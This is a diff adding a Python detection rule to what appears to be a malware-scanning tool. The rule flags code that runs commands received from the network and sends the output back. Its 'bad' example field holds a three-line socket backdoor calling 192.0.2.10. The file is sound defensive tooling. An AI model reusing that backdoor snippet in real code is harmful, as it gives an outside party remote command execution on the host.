@@ -1,0 +1,55 @@
+"""Commands that come from the network and are run: a remote access tool in a few lines."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+from antivenom.pycode.facts import Fact
+from antivenom.pycode.rules.kit import Case, Rule, Seen, address_of, origins, taint_of_role, url_of
+
+_SENDS = ("send", "fetch")
+
+
+def check(case: Case) -> Iterator[Seen]:
+    """A process whose command, or whose input, came from a connection."""
+    for fact in case.of("process", "input"):
+        taint = taint_of_role(fact, "command", "argv", "path", "data", "rest")
+        sources = origins(taint, "receive", "fetch", "resolve", "download")
+        if not sources:
+            continue
+        answers = [one for one in case.of(*_SENDS) if fact in one.taint]
+        back = " and sends the output back" if answers else ""
+        whence = _whence(case, sources[0])
+        yield Seen(
+            94 if answers else 88,
+            f"It runs commands that it gets from {whence}{back}.",
+            (sources[0], fact, *answers[:1]),
+        )
+    bots = case.of("bot")
+    if bots and case.of("process"):
+        yield Seen(80, "It is a chat bot that runs commands.", (bots[0], case.of("process")[0]))
+
+
+def _whence(case: Case, source: Fact) -> str:
+    if source.kind == "resolve":
+        return "DNS answers"
+    if source.kind in ("fetch", "download"):
+        return url_of(source) or "the network"
+    for fact in case.of("connect", "bind"):
+        if fact in source.taint or (fact.owner is not None and fact.owner is source.owner):
+            where = address_of(fact)
+            return f"whoever connects to port {where.port}" if fact.kind == "bind" else str(where)
+    return "the network"
+
+
+RULE = Rule(
+    id="remote_control",
+    title="Runs commands from the network",
+    attack=("T1059.006", "T1071", "T1219"),
+    why="A loop that receives a command, runs it and sends the output back is a backdoor, with or without a shell.",
+    bad="import socket, subprocess\ns = socket.create_connection(('192.0.2.10', 443))\nwhile True: s.send(subprocess.getoutput(s.recv(1024)).encode())",
+    good="print(subprocess.getoutput('git rev-parse HEAD'))",
+    references=("https://attack.mitre.org/techniques/T1219/",),
+    wakes=frozenset({"process", "input", "bot"}),
+    check=check,
+)
